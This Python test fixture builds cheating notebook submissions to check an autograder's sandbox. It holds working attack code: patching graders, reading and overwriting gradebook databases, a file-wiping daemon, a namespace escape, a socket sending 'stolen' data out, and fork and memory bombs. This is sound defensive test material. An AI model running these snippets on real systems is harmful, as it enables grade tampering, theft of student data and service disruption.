"""A corpus of cheating submissions of ps01-life-tables, built at test time from the bundled samples.

Each entry is what a determined student could hand in: an honest base (a sample submission with
known points, declared with the samples: ``blank`` scores 0) with attack code added as a cell
of its own before Task 1 (and, for some, in place of an answer or in the notebook file itself).
Whatever the attack does, the submission must score at most its base's honest points, and no
other submission graded in the same run may lose a point (``test_adversarial.py``).

``{port}`` in an attack stands for a TCP port on 127.0.0.1 where the test listens (the attack must
not reach it), and ``{marker}`` for a word the test looks for among running processes afterwards.
"""

from __future__ import annotations

import copy
import functools
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "ps01-life-tables"
SAMPLES = ROOT / "tests" / "samples" / ASSIGNMENT

# A tiny "correct-looking" value factory the attacks use to forge answers.
_FORGE = "import numpy as np\nfake = np.ones((2, 101))\n"


@dataclass(frozen=True)
class Attack:
    """One cheating submission: an honest base and what is added to it."""

    name: str
    code: str
    """A cell added before Task 1's answer (empty: none)."""
    base: str = "blank"
    answers: dict[str, str] = field(default_factory=dict)
    """Answer cells (by grade id) replaced with this code."""
    damage: str = ""
    """How the notebook file itself is damaged (see :func:`build`)."""
    form_points: float = 0.0
    """Points an honest answer of the same form would earn (a visible test that checks only the form)."""

    @property
    def honest_points(self) -> float:
        return honest_students()[self.base] + self.form_points


ATTACKS = [
    # --- rewriting later cells (the tests never run in the kernel, so there is nothing to rewrite)
    Attack("ast-transformer", (
        "import ast\n"
        "class Swallow(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        body = ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(type=None, name=None,\n"
        "                       body=[ast.Pass()])], orelse=[], finalbody=[])\n"
        "        return ast.fix_missing_locations(ast.Module(body=[body], type_ignores=[]))\n"
        "get_ipython().ast_transformers.append(Swallow())")),
    Attack("input-transformer-post", "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
    Attack("input-transformer-cleanup", "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
    Attack("patch-checks", (
        "import qsp.grading.checks as c, qsp.grading as g\n"
        "for n in dir(c):\n"
        "    if n.startswith('check_'):\n"
        "        setattr(c, n, lambda *a, **k: None)\n"
        "        setattr(g, n, lambda *a, **k: None)")),
    Attack("patch-grading-getattr", (
        "import qsp.grading as g\n"
        "g.__getattr__ = lambda name: (lambda *a, **k: None)\n"
        "import sys; sys.modules['qsp.grading.checks'] = g")),
    Attack("patch-numpy", (
        "import numpy\n"
        "numpy.isclose = lambda *a, **k: numpy.array(True)\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.array_equal = lambda *a, **k: True"), base="mistake-a0-half"),
    Attack("settrace", (
        "import sys\n"
        "def tracer(frame, event, arg):\n"
        "    return tracer\n"
        "sys.settrace(tracer); sys.setprofile(lambda *a: None)")),
    Attack("showtraceback", (
        "ip = get_ipython()\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip.showsyntaxerror = lambda *a, **k: None\n"
        "import sys; sys.excepthook = lambda *a: None")),
    Attack("builtins", (
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.AssertionError = type('Nope', (Exception,), {})")),
    Attack("skip-capture-cells", (
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "_run = InteractiveShell.run_cell\n"
        "def run_cell(self, raw_cell, *a, **k):\n"
        "    if 'capture' in raw_cell:\n"
        "        raw_cell = 'pass'\n"
        "    return _run(self, raw_cell, *a, **k)\n"
        "InteractiveShell.run_cell = run_cell")),
    # --- answers that are not plain data, or plain data that lies
    Attack("eq-tricks", (
        "import numpy as np\n"
        "class Always(np.ndarray):\n"
        "    def __eq__(self, other): return True\n"
        "    def __array_ufunc__(self, *a, **k): return True\n"
        "a0 = np.zeros(2).view(Always)\n"
        "class Liar(float):\n"
        "    def __eq__(self, o): return True\n"
        "    def __sub__(self, o): return 0.0\n"
        "    def __rsub__(self, o): return 0.0\n"
        "    def __abs__(self): return 0.0\n"
        "    def __lt__(self, o): return True\n"
        "    def __le__(self, o): return True\n"
        "class Shape:\n"
        "    shape = (2, 101); ndim = 2; dtype = np.float64\n"
        "    def __array__(self, *a, **k): raise RuntimeError('no')\n"
        "    def __getattr__(self, name): return self\n"
        "    def __call__(self, *a, **k): return self\n"
        "    def __eq__(self, o): return True\n"
        "qx = ax = lx = dx = Lx = Tx = ex = Shape()\n"
        "e0 = np.array([Liar(60.0), Liar(64.0)], dtype=object)\n"
        "q_45_15 = e65 = survive_to_65 = [Liar(0.5), Liar(0.5)]"),
        # a0 holds two zeros: the form Task 1's visible test checks (1 point, as an honest np.zeros(2) gets)
        form_points=1.0),
    Attack("custom-exception", (
        "class Quiet(BaseException):\n"
        "    pass\n"
        "import builtins\n"
        "builtins.AssertionError = Quiet\n"
        "raise Quiet()")),
    Attack("redefine-course-data", (
        "import numpy as np\n"
        "mx = np.full((2, 101), 0.01)  # the course's data, replaced to suit a wrong answer\n"
        "radix = 1\n"
        "class FakeNumpy:\n"
        "    def __getattr__(self, name): return lambda *a, **k: True\n"
        "np = FakeNumpy()"), base="mistake-a0-half"),
    Attack("forge-captures", (
        "import os, json\n"
        "def forge(namespace, capture_id, names, folder):\n"
        "    os.makedirs(folder, exist_ok=True)\n"
        "    values = {n: {'t': 'float', 'v': '1.0'} for n in names}\n"
        "    json.dump({'id': capture_id, 'values': values}, open(os.path.join(folder, capture_id + '.json'), 'w'))\n"
        "import qsp.course.capture as c\n"
        "c.capture = forge")),
    Attack("answer-is-function", (
        "def a0():\n    return [0.1, 0.1]\n"
        "qx = lambda: None\n"
        "import io\nlx = io.StringIO('x')\n"
        "e0 = (x for x in range(2))")),
    # --- reaching the course, the gradebook, other students, the grader
    Attack("read-course-files", (
        "import glob, os\n"
        "found = []\n"
        "for pattern in ['/**/gradebook.db', '/**/submitted/*/*', '/**/solutions/**/*.ipynb', '/**/autograded/*/*']:\n"
        "    found += glob.glob(pattern, recursive=True)[:20]\n"
        "print('FOUND', found)\n"
        "for path in found:\n"
        "    try:\n"
        "        print(open(path, errors='replace').read()[:2000])\n"
        "    except Exception as error:\n"
        "        print(error)")),
    Attack("write-gradebook", (
        "import glob, sqlite3\n"
        "for path in glob.glob('/**/gradebook.db', recursive=True) + ['../../../gradebook.db', '../../gradebook.db']:\n"
        "    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('update grade set auto_score = 99, manual_score = 99')\n"
        "        db.execute('update grade set auto_score = 0 where 1')\n"
        "        db.commit()\n"
        "        print('WROTE', path)\n"
        "    except Exception as error:\n"
        "        print('no', path, error)")),
    Attack("proc-root", (
        "import os\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        for target in ('root', 'cwd'):\n"
        "            try:\n"
        "                print(pid, target, os.listdir(f'/proc/{pid}/{target}'))\n"
        "                print(os.listdir(f'/proc/{pid}/{target}/work'))\n"
        "            except Exception as error:\n"
        "                print(pid, target, error)")),
    Attack("startup-file", (
        "import os\n"
        "for folder in [os.path.expanduser('~/.ipython/profile_default/startup'), '/root/.ipython/profile_default/startup',\n"
        "               os.path.join(os.environ.get('IPYTHONDIR', '/tmp'), 'profile_default', 'startup')]:\n"
        "    try:\n"
        "        os.makedirs(folder, exist_ok=True)\n"
        "        open(os.path.join(folder, '00-zero.py'), 'w').write('import os\\nos._exit(0)\\n')\n"
        "    except Exception as error:\n"
        "        print(error)")),
    Attack("daemon", (
        "import subprocess, sys\n"
        "code = ('import os, time, glob\\n'\n"
        "        'if os.fork(): os._exit(0)\\n'\n"
        "        'os.setsid()\\n'\n"
        "        'if os.fork(): os._exit(0)\\n'\n"
        "        'for _ in range(600):\\n'\n"
        "        '    time.sleep(1)  # {marker}\\n'\n"
        "        '    for path in glob.glob(\"/**/gradebook.db\", recursive=True):\\n'\n"
        "        '        open(path, \"w\").write(\"\")\\n')\n"
        "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)")),
    Attack("network", (
        "import socket\n"
        "for host in ('127.0.0.1', 'localhost', '10.0.2.2', '8.8.8.8'):\n"
        "    try:\n"
        "        s = socket.create_connection((host, {port}), timeout=2)\n"
        "        s.sendall(b'stolen'); print('CONNECTED', host)\n"
        "    except Exception as error:\n"
        "        print(host, error)")),
    Attack("setns", (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in ['1', '2', str(os.getppid())]:\n"
        "    try:\n"
        "        fd = os.open(f'/proc/{pid}/ns/net', os.O_RDONLY)\n"
        "        print(pid, libc.setns(fd, 0), ctypes.get_errno())\n"
        "    except Exception as error:\n"
        "        print(pid, error)\n"
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
        "except Exception as error:\n"
        "    print(error)")),
    Attack("write-kit", (
        "import qsp.grading.checks as c\n"
        "try:\n"
        "    open(c.__file__, 'a').write('\\ncheck_array_close = lambda *a, **k: None\\n')\n"
        "except Exception as error:\n"
        "    print(error)")),
    # --- breaking the run
    Attack("kill-kernel", "import os\nos._exit(0)", base="mistake-a0-half"),
    Attack("kill-runner", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)"),
    Attack("sys-exit", "import sys\nsys.exit(0)"),
    Attack("fork-bomb", (
        "import os\n"
        "children = 0\n"
        "try:\n"
        "    for _ in range(5000):\n"
        "        if os.fork() == 0:\n"
        "            import time; time.sleep(30); os._exit(0)\n"
        "        children += 1\n"
        "except OSError as error:\n"
        "    print('stopped after', children, error)")),
    Attack("memory-bomb", "import numpy as np\nhog = np.ones(1_000_000_000)\nhog2 = bytearray(8 * 1024 ** 3)"),
    Attack("huge-output", "import sys\nfor _ in range(500):\n    sys.stdout.write('x' * 100_000 + '\\n')"),
    Attack("ignore-interrupts", (
        "import signal\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n"
        "    pass")),
    Attack("sigstop", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    # --- damaged or doctored files (the repair defences)
    Attack("points-edited", "", base="mistake-a0-half", damage="points"),
    Attack("tests-turned-into-answers", "", damage="tests-to-answers"),
    Attack("test-cells-deleted", "", base="mistake-a0-half", damage="delete-tests"),
    Attack("test-cells-emptied", "", damage="empty-tests"),
    Attack("renamed-notebook", "", base="mistake-a0-half", damage="rename"),
    Attack("not-json", "", damage="not-json"),
    Attack("cells-not-a-list", "", damage="cells-dict"),
]


def _notebook(base: str) -> nbformat.NotebookNode:
    return nbformat.read(SAMPLES / base / f"{ASSIGNMENT}.ipynb", as_version=4)


def build(attack: Attack, port: int, marker: str) -> dict[str, bytes]:
    """The files of ``attack``'s submission: ``{file name: content}``."""
    nb = _notebook(attack.base)
    if attack.code:
        code = attack.code.replace("{port}", str(port)).replace("{marker}", marker)
        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "task1-answer")
        nb.cells.insert(index, nbformat.v4.new_code_cell(code))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in attack.answers:
            cell.source = attack.answers[grade_id]
    name = f"{ASSIGNMENT}.ipynb"
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")]
    if attack.damage == "points":
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("points") is not None:
                cell.metadata["nbgrader"]["points"] = 100
    elif attack.damage == "tests-to-answers":
        for cell in tests:
            cell.metadata["nbgrader"].update(solution=True, grade=False, locked=False)
            cell.source = "pass"
    elif attack.damage == "delete-tests":
        nb.cells = [c for c in nb.cells if c not in tests]
    elif attack.damage == "empty-tests":
        for cell in tests:
            cell.source = "pass"
    elif attack.damage == "rename":
        name = f"Copy of {ASSIGNMENT}.ipynb"
    if attack.damage == "not-json":
        return {name: b"{ this is not a notebook"}
    content = json.loads(nbformat.writes(nb))
    if attack.damage == "cells-dict":
        content["cells"] = {"0": content["cells"][0]}
    return {name: json.dumps(content).encode()}


@functools.cache
def honest_students() -> dict[str, float]:
    """The bundled samples graded with the corpus, and their designed points (from the samples' own module)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("ps01_samples", SAMPLES / "_make_samples.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return dict(copy.deepcopy(module.EXPECTED))
